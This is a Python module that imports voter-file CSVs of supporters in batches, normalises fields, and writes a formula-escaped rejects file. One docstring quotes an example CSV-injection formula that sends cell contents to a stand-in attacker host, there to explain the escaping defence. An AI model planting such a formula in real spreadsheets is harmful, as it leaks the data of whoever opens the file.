"""``rapid supporters import FILE.csv`` (contract §5): stream a voter-file export into the store.

The file is read once to prove it is UTF-8 text, then streamed through :mod:`csv` one batch at
a time: each row is normalised field by field (a bad phone drops the phone, not the
supporter), batches are upserted by external id, and every rejected field or row is written
with its reason to ``FILE.rejects.csv``, numbered as a spreadsheet numbers rows (header = 1).
Memory is bounded whatever the file's size: the batch being parsed and the one being
written, plus caches of bounded size (phone exchanges, email domains, tag spellings).
"""

from __future__ import annotations

import codecs
import csv
import re
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import IO, Any

import structlog

from messaging.errors import InputError
from messaging.ports import SUPPORTER_COLUMNS, BatchResult, SupporterRow, SupporterWriter
from messaging.store.schema import EXTERNAL_ID_LEN, NAME_LEN
from messaging.supporters.normalize import (
    FieldRejected,
    OnReject,
    derive_timezone,
    normalize_email,
    normalize_phone,
    normalize_postal_code,
    normalize_state,
    normalize_text,
    parse_bool,
    parse_tags,
    parse_topics,
    validate_timezone,
)

log = structlog.get_logger(__name__)

#: Rows per transaction. Measured on PostgreSQL (benchmarks/bench_import.py): throughput is
#: flat from 2,000 to 20,000 rows; 5,000 keeps a batch to a few megabytes and a transaction
#: short enough not to hold locks for long.
DEFAULT_BATCH_SIZE = 5_000

#: Columns the import understands (contract §5); any other column is kept as a custom field
#: (``supporters.fields``), under its name lower-cased with every run of other characters
#: than ``a-z0-9_`` made one ``_`` (``Ward #`` → ``ward``).
KNOWN_COLUMNS = frozenset({"external_id", *SUPPORTER_COLUMNS, "topics"}) - {"fields"}
#: Longest value a custom field keeps; longer is rejected, not truncated.
FIELD_VALUE_MAX_CHARS = 500
#: Most custom columns one file may bring (each is a key in every supporter's JSON).
MAX_CUSTOM_COLUMNS = 100

#: Columns of ``FILE.rejects.csv``.
REJECTS_HEADER = ("row", "external_id", "field", "value", "reason")

#: The interpreter's thread switch interval during an import, in seconds (default 0.005).
#: The writer thread needs the GIL a dozen times per batch (each statement, each COPY
#: flush) while the parsing thread holds it; at 5 ms a wait, that doubled the time a batch
#: took to write. 1 ms keeps the two overlapping. Restored when the import ends.
SWITCH_INTERVAL_S = 0.001

#: Bytes read at a time while checking that the file is text.
_SNIFF_CHUNK_BYTES = 1 << 20


#: Longest external id and name the columns hold; longer values are rejected, not truncated.
_MAX_ID = EXTERNAL_ID_LEN
_MAX_NAME = NAME_LEN
#: Header cells we are willing to echo in an error: a data row mistaken for a header holds
#: phones and emails, which must not reach a terminal log.
_SAFE_HEADER_RE = re.compile(r"^[A-Za-z0-9 _-]{1,40}$")


@dataclass(frozen=True, slots=True)
class ImportReport:
    """What an import did. ``rejects_path`` is None when nothing was rejected."""

    rows_read: int
    inserted: int
    updated: int
    rows_rejected: int
    fields_rejected: int
    rejects_path: Path | None
    new_topics: tuple[str, ...]
    elapsed_s: float

    def to_dict(self) -> dict[str, Any]:
        """The report as plain JSON types, for ``--json``."""
        return {
            "rows_read": self.rows_read,
            "inserted": self.inserted,
            "updated": self.updated,
            "rows_rejected": self.rows_rejected,
            "fields_rejected": self.fields_rejected,
            "rejects_path": str(self.rejects_path) if self.rejects_path else None,
            "new_topics": list(self.new_topics),
            "elapsed_s": round(self.elapsed_s, 3),
        }


def rejects_path_for(path: Path) -> Path:
    """Where the rejects of ``path`` go: ``voters.csv`` → ``voters.rejects.csv``."""
    return path.with_name(path.stem + ".rejects.csv")


def import_csv(
    path: Path,
    writer: SupporterWriter,
    *,
    batch_size: int = DEFAULT_BATCH_SIZE,
    default_region: str = "US",
    on_progress: Callable[[int], None] | None = None,
) -> ImportReport:
    """Upsert the supporters in the CSV at ``path`` by ``external_id``; see the module doc.

    Raises :class:`InputError` before writing anything when the file is not UTF-8 CSV text
    or has no ``external_id`` column. ``on_progress`` gets the number of rows read so far
    after each batch is committed. A CSV syntax error deep in the file stops the import
    there (earlier batches stay committed; importing again is idempotent).
    """
    if batch_size < 1:
        raise ValueError("batch_size must be at least 1")
    started = time.perf_counter()
    _check_text(path)
    rejects = _RejectsFile(rejects_path_for(path))
    totals = _Totals()

    def finish(batch: _Batch, write: Future[BatchResult]) -> None:
        result = write.result()
        totals.add(batch, result.inserted, result.updated, result.new_topics)
        rejects.write(batch.rejects())
        if on_progress is not None:
            on_progress(totals.rows_read)

    # One thread writes batch N while this one parses batch N+1: the database works in its
    # own process, so the two overlap (and psycopg releases the GIL while it waits). A
    # batch is handed over only after the previous one committed, so batches commit in
    # file order, a failed batch stops the import, and memory holds two batches at most.
    pending: tuple[_Batch, Future[BatchResult]] | None = None
    switch_interval = sys.getswitchinterval()
    sys.setswitchinterval(min(switch_interval, SWITCH_INTERVAL_S))
    try:
        with (
            path.open(encoding="utf-8-sig", newline="") as stream,
            ThreadPoolExecutor(1, thread_name_prefix="supporters-import") as pool,
        ):
            records = csv.reader(stream)
            header, custom, width = _read_header(path, records)
            parser = _RowParser(header, default_region, custom)
            columns_present = frozenset(header) - {"external_id"} | (
                {"fields"} if custom else set()
            )
            try:
                for batch in _batches(records, parser, batch_size, path, width):
                    if pending is not None:
                        done, pending = pending, None
                        finish(*done)
                    rows = [kept.row for kept in batch.rows]
                    pending = (batch, pool.submit(writer.write_batch, rows, columns_present))
            finally:
                # Also when the file turns bad mid-way: what was sent is committed, so
                # count it and write its rejects before the error goes up.
                if pending is not None:
                    done, pending = pending, None
                    finish(*done)
    finally:
        sys.setswitchinterval(switch_interval)
        rejects_path = rejects.close()
    report = ImportReport(
        rows_read=totals.rows_read,
        inserted=totals.inserted,
        updated=totals.updated,
        rows_rejected=totals.rows_rejected,
        fields_rejected=totals.fields_rejected,
        rejects_path=rejects_path,
        new_topics=tuple(sorted(totals.new_topics)),
        elapsed_s=time.perf_counter() - started,
    )
    log.info(
        "supporters.import.finished",
        file=path.name,
        **{k: v for k, v in report.to_dict().items() if k not in ("rejects_path", "new_topics")},
    )
    return report


# --- the file -----------------------------------------------------------------------------


def _check_text(path: Path) -> None:
    """Refuse binary and non-UTF-8 files up front, so a bad file imports nothing.

    One streaming pass in binary (about a second per gigabyte): a NUL byte never occurs in
    CSV text, and a strict incremental UTF-8 decode finds a Latin-1 or UTF-16 export
    anywhere in the file, not only in its first kilobytes.
    """
    try:
        stream = path.open("rb")
    except OSError as exc:
        raise InputError(f"cannot read {path}: {exc.strerror}") from None
    decoder = codecs.getincrementaldecoder("utf-8")(errors="strict")
    offset = 0
    with stream:
        chunk = stream.read(_SNIFF_CHUNK_BYTES)
        if chunk[:2] in (codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE):
            raise InputError(f"{path.name} is UTF-16 text, not a UTF-8 CSV: save it as 'CSV UTF-8'")
        while chunk:
            if b"\x00" in chunk:
                raise InputError(
                    f"{path.name} is not a CSV file: it holds binary data "
                    f"(a NUL byte at byte {offset + chunk.index(0)})"
                )
            try:
                decoder.decode(chunk)
            except UnicodeDecodeError as exc:
                raise InputError(
                    f"{path.name} is not UTF-8 text (byte {offset + exc.start}): "
                    "save it as 'CSV UTF-8'"
                ) from None
            offset += len(chunk)
            chunk = stream.read(_SNIFF_CHUNK_BYTES)
        try:
            decoder.decode(b"", final=True)
        except UnicodeDecodeError:
            raise InputError(f"{path.name} is not UTF-8 text: it ends mid-character") from None
    if offset == 0:
        raise InputError(f"{path.name} is empty: expected a header row with external_id")


def custom_field_name(cell: str) -> str:
    """The name a custom column is kept under (``""``: the column has no usable name)."""
    return _NOT_NAME_RE.sub("_", cell.strip().lower()).strip("_")[:64]


_NOT_NAME_RE = re.compile(r"[^a-z0-9_]+")


def _read_header(
    path: Path, records: Iterator[list[str]]
) -> tuple[dict[str, int], dict[str, int], int]:
    """(known column name → its index, custom field name → its index, number of columns);
    the first row must be a header naming external_id."""
    try:
        cells = next(records, None)
    except csv.Error as exc:
        raise InputError(f"{path.name} row 1 is not CSV: {exc}") from None
    if not cells:
        raise InputError(f"{path.name} has no header row: expected one naming external_id")
    header: dict[str, int] = {}
    custom: dict[str, int] = {}
    for index, cell in enumerate(cells):
        name = cell.strip().lower()
        if name not in KNOWN_COLUMNS:
            field = custom_field_name(cell)
            if field and field not in custom and len(custom) < MAX_CUSTOM_COLUMNS:
                custom[field] = index  # a repeated name keeps its first column
            continue
        if name in header:
            raise InputError(f"{path.name}: column {name!r} appears twice in the header")
        header[name] = index
    if "external_id" not in header:
        shown = [c.strip() if _SAFE_HEADER_RE.match(c.strip()) else "…" for c in cells[:20]]
        raise InputError(
            f"{path.name} has no external_id column (header: {', '.join(shown)}); "
            "the first row must name the columns"
        )
    return header, custom, len(cells)


@dataclass(slots=True)
class _Reject:
    row: int
    external_id: str
    field: str
    value: str
    reason: str

    def line(self) -> tuple[str, ...]:
        return (
            str(self.row),
            spreadsheet_safe(self.external_id),
            spreadsheet_safe(self.field),
            spreadsheet_safe(self.value),
            spreadsheet_safe(self.reason),
        )


#: First characters that make Excel, LibreOffice and Sheets read a cell as a formula
#: (contract §5: =, +, -, @; tab and carriage return too, as OWASP lists them).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: str) -> str:
    """``value`` as a spreadsheet shows it and never runs it: a leading ``'`` before a formula.

    Operators open the rejects file in Excel; a rejected value such as
    ``=HYPERLINK("https://evil.example/?"&A1, "fix")`` would otherwise be a live formula.
    """
    return "'" + value if value.startswith(_FORMULA_STARTS) else value


class _RejectsFile:
    """``FILE.rejects.csv``, created on the first reject; a stale one is removed if none."""

    def __init__(self, path: Path) -> None:
        self._path = path
        self._stream: IO[str] | None = None
        self._writer: Any = None

    def write(self, rejects: list[_Reject]) -> None:
        if not rejects:
            return
        if self._writer is None:
            # utf-8-sig: the BOM makes Excel, where operators open this file, read Unicode
            # names correctly; our own importer drops it.
            try:
                self._stream = self._path.open("w", encoding="utf-8-sig", newline="")
            except OSError as exc:
                raise InputError(
                    f"cannot write {self._path}: {exc.strerror} "
                    "(rows before this point were imported)"
                ) from None
            self._writer = csv.writer(self._stream)
            self._writer.writerow(REJECTS_HEADER)
        self._writer.writerows(reject.line() for reject in rejects)

    def close(self) -> Path | None:
        if self._stream is not None:
            self._stream.close()
            return self._path
        # A rejects file from an earlier import of the same file would describe rows that
        # are fine now.
        self._path.unlink(missing_ok=True)
        return None


# --- rows ---------------------------------------------------------------------------------


@dataclass(slots=True)
class _Kept:
    number: int
    row: SupporterRow
    rejects: list[_Reject]


@dataclass(slots=True)
class _Batch:
    rows: list[_Kept]
    rows_read: int
    dropped: list[_Reject]  # whole rows: no external id, or superseded by a later row

    def rejects(self) -> list[_Reject]:
        lines = [reject for kept in self.rows for reject in kept.rejects] + self.dropped
        lines.sort(key=lambda reject: reject.row)
        return lines

    @property
    def fields_rejected(self) -> int:
        return sum(len(kept.rejects) for kept in self.rows)


@dataclass(slots=True)
class _Totals:
    rows_read: int = 0
    inserted: int = 0
    updated: int = 0
    rows_rejected: int = 0
    fields_rejected: int = 0
    new_topics: frozenset[str] = frozenset()

    def add(self, batch: _Batch, inserted: int, updated: int, new_topics: frozenset[str]) -> None:
        self.rows_read += batch.rows_read
        self.inserted += inserted
        self.updated += updated
        self.rows_rejected += len(batch.dropped)
        self.fields_rejected += batch.fields_rejected
        self.new_topics |= new_topics


def _batches(
    records: Iterator[list[str]], parser: _RowParser, batch_size: int, path: Path, width: int
) -> Iterator[_Batch]:
    """Parsed rows in batches of unique external ids; the last row of an id wins."""
    by_id: dict[str, _Kept] = {}
    dropped: list[_Reject] = []
    rows_read = 0
    number = 1  # the header's spreadsheet row
    while True:
        try:
            cells = next(records, None)
        except csv.Error as exc:
            raise InputError(f"{path.name} row {number + 1} is not valid CSV: {exc}") from None
        if cells is None:
            break
        number += 1
        if not cells or (len(cells) == 1 and not cells[0].strip()):
            continue  # a blank line: still a spreadsheet row, but not a supporter
        if len(cells) < width and "\n" in cells[-1]:
            # A quote that is never closed makes the csv module read the rest of the file
            # into this one cell, silently; a short row ending in a multi-line cell is
            # that, not a voter.
            raise InputError(
                f"{path.name} row {number}: a quote opened in this row is never closed "
                "(rows before it were imported; fix the file and import it again)"
            )
        rows_read += 1
        parsed = parser.parse(number, cells)
        if isinstance(parsed, _Reject):
            dropped.append(parsed)
        else:
            earlier = by_id.pop(parsed.row.external_id, None)
            if earlier is not None:
                dropped.append(
                    _Reject(
                        earlier.number,
                        parsed.row.external_id,
                        "external_id",
                        parsed.row.external_id,
                        f"duplicate external_id: superseded by row {number}",
                    )
                )
            by_id[parsed.row.external_id] = parsed
        if rows_read >= batch_size:
            yield _Batch(list(by_id.values()), rows_read, dropped)
            by_id, dropped, rows_read = {}, [], 0
    if rows_read:
        yield _Batch(list(by_id.values()), rows_read, dropped)


#: Where each field sits in a :class:`SupporterRow` (and in the parser's scratch list).
_SLOT = {name: index for index, name in enumerate(SupporterRow._fields)}
_PHONE, _POSTAL, _TIMEZONE = _SLOT["phone"], _SLOT["postal_code"], _SLOT["timezone"]
_SMS, _EMAIL_OPT, _TOPICS = _SLOT["sms_opt_in"], _SLOT["email_opt_in"], _SLOT["topics"]
_FIELDS = _SLOT["fields"]
#: A row with nothing in it yet: every optional field None, no topics.
_EMPTY_ROW: list[Any] = [None] * len(SupporterRow._fields)
_EMPTY_ROW[_TOPICS] = ()


class _RowParser:
    """Turns one CSV record into a :class:`SupporterRow` and the reasons for what it dropped.

    Runs a million times per import, so the per-column work is planned once, from the
    header: a list of (slot, cell index, normaliser) for the single-valued columns present,
    and the same for the multi-valued ones (tags, topics), whose bad parts are reported one
    by one while the good ones are kept.
    """

    def __init__(
        self, header: dict[str, int], default_region: str, custom: dict[str, int] | None = None
    ) -> None:
        self._id = header["external_id"]
        #: Custom columns: every row keeps each of them (blank as ""), so a template's
        #: ``{{ fields.ward }}`` renders for everyone the file named.
        self._custom = list((custom or {}).items())
        single: dict[str, Callable[[str], Any]] = {
            "first_name": partial(normalize_text, field="first_name", max_len=_MAX_NAME),
            "last_name": partial(normalize_text, field="last_name", max_len=_MAX_NAME),
            "phone": partial(normalize_phone, default_region=default_region),
            "email": normalize_email,
            "postal_code": normalize_postal_code,
            "state": normalize_state,
            "timezone": validate_timezone,
            "sms_opt_in": parse_bool,
            "email_opt_in": parse_bool,
        }
        multi: dict[str, Callable[[str, OnReject], Any]] = {
            "tags": parse_tags,
            "topics": parse_topics,
        }
        self._single = [
            (_SLOT[name], header[name], name, normalise)
            for name, normalise in single.items()
            if name in header
        ]
        self._multi = [
            (_SLOT[name], header[name], name, normalise)
            for name, normalise in multi.items()
            if name in header
        ]
        self._derive = "timezone" in header or "phone" in header or "postal_code" in header

    def parse(self, number: int, cells: list[str]) -> _Kept | _Reject:
        width = len(cells)
        external_id = cells[self._id].strip() if self._id < width else ""
        if not external_id:
            return _Reject(number, "", "external_id", "", "missing external_id: row skipped")
        if len(external_id) > _MAX_ID:
            return _Reject(
                number,
                external_id,
                "external_id",
                external_id,
                f"external_id longer than {_MAX_ID} characters: row skipped",
            )
        values = _EMPTY_ROW.copy()
        values[0] = external_id
        rejects: list[_Reject] = []
        # Short records (trailing commas lost) read as blank cells: "no value".
        for slot, index, name, normalise in self._single:
            raw = cells[index].strip() if index < width else ""
            if raw:
                try:
                    values[slot] = normalise(raw)
                except FieldRejected as exc:
                    rejects.append(_Reject(number, external_id, name, raw, exc.reason))
        for slot, index, name, split in self._multi:
            raw = cells[index].strip() if index < width else ""
            if raw:
                bad: list[FieldRejected] = []
                values[slot] = split(raw, bad.append)
                for part in bad:
                    rejects.append(
                        _Reject(number, external_id, name, part.value or "", part.reason)
                    )
        if self._custom:
            fields: dict[str, str] = {}
            for name, index in self._custom:
                raw = cells[index] if index < width else ""
                try:
                    fields[name] = normalize_text(raw, name, FIELD_VALUE_MAX_CHARS)
                except FieldRejected as exc:
                    rejects.append(_Reject(number, external_id, name, raw.strip(), exc.reason))
                    fields[name] = ""
            values[_FIELDS] = fields
        if values[_TIMEZONE] is None and self._derive:
            values[_TIMEZONE] = derive_timezone(values[_PHONE], values[_POSTAL])
        # Blank or unusable opt-in: no consent (contract §5).
        values[_SMS] = values[_SMS] is True
        values[_EMAIL_OPT] = values[_EMAIL_OPT] is True
        return _Kept(number, SupporterRow._make(values), rejects)
